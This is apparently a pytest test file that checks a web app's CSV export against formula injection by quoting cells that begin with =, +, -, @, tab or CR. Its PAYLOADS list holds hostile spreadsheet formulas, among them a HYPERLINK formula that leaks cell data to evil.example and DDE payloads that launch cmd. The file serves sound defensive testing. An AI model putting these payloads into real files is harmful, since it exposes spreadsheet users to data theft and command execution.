"""No CSV the product writes holds a cell a spreadsheet would run as a formula (OWASP CSV
injection): text starting with = + - @ tab or CR is prefixed with a quote; other text, numbers
and dates are written as they are."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from app.core.csvcells import safe_cell

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_start_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Payments lake", "a=b", "", 42, -3, None, "'quoted"])
def test_other_cells_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_the_decisions_csv_neutralises_titles_and_owners(client: TestClient) -> None:
    for i, payload in enumerate(PAYLOADS):
        made = client.post(
            "/api/decisions",
            json={"title": payload, "owner": PAYLOADS[-1 - i], "answers": {}},
        )
        assert made.status_code == 201, made.text
    stored = {d["id"]: d for d in client.get("/api/decisions").json()}
    response = client.get("/decisions.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for field in ("title", "owner"):
            value = stored[int(row["id"])][field]
            assert value.startswith(("=", "+", "-", "@", "\t", "\r"))  # as the API keeps it
            assert row[field] == "'" + value, (field, row[field])
    # JSON is not opened by spreadsheets: the export gives the values exactly.
    exported = client.get("/decisions.json").json()
    assert {d["title"] for d in exported} == {d["title"] for d in stored.values()}
